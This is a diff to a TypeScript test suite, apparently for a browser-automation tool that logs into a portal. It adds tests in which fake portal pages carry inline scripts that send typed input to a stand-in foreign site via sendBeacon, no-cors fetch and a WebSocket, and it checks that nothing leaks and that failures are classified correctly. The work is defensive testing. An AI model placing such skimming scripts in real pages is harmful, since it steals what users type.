@@ -6,7 +6,7 @@ import { closeBrowser, launchBrowser } from '../../../src/portal/browser.ts';
 import { startForeignHttpsSite } from './fixtures/foreignHttpsSite.ts';
 import { startForeignSite } from './fixtures/foreignSite.ts';
 import { csvFile, startPagePortal, type PortalPage } from './fixtures/pagePortal.ts';
-import { demoCredentials, startSession, testBrowser } from './fixtures/sessions.ts';
+import { demoCredentials, failureOf, startSession, testBrowser } from './fixtures/sessions.ts';
 
 // Against hangs only.
 vi.setConfig({ testTimeout: 120_000 });
@@ -333,6 +333,52 @@ test('a redirect after the password is told apart from a page that nobody knows'
   await expect(at.session.exportReport(at.request())).rejects.toThrow('not its own');
   await at.session.close();
   expect(at.guard).toEqual(['submit', 'other-origin']);
+});
+
+const outOfOrder: PortalPage = (request, response) => {
+  request.resume();
+  response.writeHead(503, { 'content-type': 'text/html' }).end('<h1>Down for maintenance</h1>');
+};
+
+test.each([
+  {
+    title: 'an outage of the portal is told as one, though statistics were kept back',
+    page: (there: string) => onType(`navigator.sendBeacon('${there}/statistics', 'typed')`),
+    answer: outOfOrder,
+    failure: { type: 'PortalUnavailable', retry: true },
+    told: ['submit', 'not-judged'],
+  },
+  {
+    title: 'nor does what a script sent elsewhere explain an outage',
+    page: (there: string) =>
+      onType(`fetch('${there}/statistics', { method: 'POST', mode: 'no-cors', body: 'typed' })`),
+    answer: outOfOrder,
+    failure: { type: 'PortalUnavailable', retry: true },
+    told: ['submit', 'not-judged'],
+  },
+  {
+    title: 'a page without the fields is a changed page, though statistics were kept back',
+    page: (there: string) =>
+      `<label>User <input name=user oninput="navigator.sendBeacon('${there}/statistics', 'typed'); new WebSocket('${there.replace('http', 'ws')}/live')"></label>`,
+    answer: outOfOrder,
+    failure: { type: 'PortalLayoutChanged', retry: true },
+    told: [],
+  },
+  {
+    title: 'a login that a script sends elsewhere is refused, though no secret can be seen in it',
+    page: (there: string) =>
+      `${fields}<button onclick="fetch('${there}/in', { method: 'POST', mode: 'no-cors', body: 'encrypted' }).then(() => location.href = '/in')">Sign in</button>`,
+    answer: app,
+    failure: { type: 'PortalOriginRefused', retry: false },
+    told: ['submit', 'not-judged'],
+  },
+])('$title', async ({ page, answer, failure, told }) => {
+  await using there = await startForeignSite();
+  await using portal = await startPagePortal({ '/': page(there.url), '/in': answer });
+  await using at = await startSession(portal.url, recipe, { reach: { siteProxy: there.siteProxy } });
+  expect(await failureOf(at.session.exportReport(at.request()))).toMatchObject(failure);
+  expect(there.received()).toBe('');
+  expect(at.guard).toEqual(told);
 });
 
 async function attack(
